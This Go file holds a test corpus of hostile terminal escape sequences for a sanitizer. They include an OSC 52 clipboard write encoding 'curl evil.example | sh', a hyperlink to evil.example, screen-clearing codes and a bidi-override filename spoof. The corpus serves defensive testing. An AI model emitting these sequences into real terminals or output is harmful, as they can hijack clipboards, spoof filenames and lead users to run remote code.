package sanitize

import "strings"

// Hostile is a corpus of strings a vendor could hand us that must never
// reach a terminal raw. The simulator injects them under its hostile fault
// knob, and the tests assert that what comes out is clean and still readable.
// Each entry keeps some readable text so a test can find it after cleaning.
func Hostile() []HostileCase {
	return []HostileCase{
		{"osc52-clipboard", "eve\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07", "eve"},
		{"osc52-st", "eve\x1b]52;c;ZWNobyBwd25lZA==\x1b\\", "eve"},
		{"osc0-title", "\x1b]0;pwned\x07mallory", "mallory"},
		{"osc8-link", "\x1b]8;;https://evil.example/\x1b\\click me\x1b]8;;\x1b\\", "click me"},
		{"csi-clear", "\x1b[2J\x1b[Hclear", "clear"},
		{"csi-move", "ab\x1b[10A\x1b[5Ccd", "abcd"},
		{"sgr", "\x1b[31;1mred\x1b[0m", "red"},
		{"dsr-query", "dsr\x1b[6n", "dsr"},
		{"dcs", "\x1bP1$r0m\x1b\\dcs", "dcs"},
		{"c1-csi-8bit", "x\u009b31my", "x31my"},
		{"c1-osc-8bit", "y\u009d0;t\u009cz", "y0;tz"},
		{"raw-c1-byte", "b\x9b2Jc", "b\uFFFD2Jc"},
		{"bidi-override", "user\u202Egnp.exe", "usergnp.exe"},
		{"bidi-isolate", "a\u2066b\u2069c", "abc"},
		{"nul", "n\x00u\x00l", "nul"},
		{"bell-backspace", "bs\x07\x08x", "bsx"},
		{"del", "d\x7fel", "del"},
		{"newline-inject", "line1\nline2\rline3", "line1 line2 line3"},
		{"cjk", "山田太郎", "山田太郎"},
		{"emoji", "👩‍💻 dev 🚨", "👩‍💻 dev 🚨"},
		{"long-100k", strings.Repeat("A", 100_000), strings.Repeat("A", MaxLine) + Ellipsis},
	}
}

// HostileCase is one entry of the corpus: the raw value and what Line
// should make of it.
type HostileCase struct {
	Name string
	Raw  string
	Line string
}
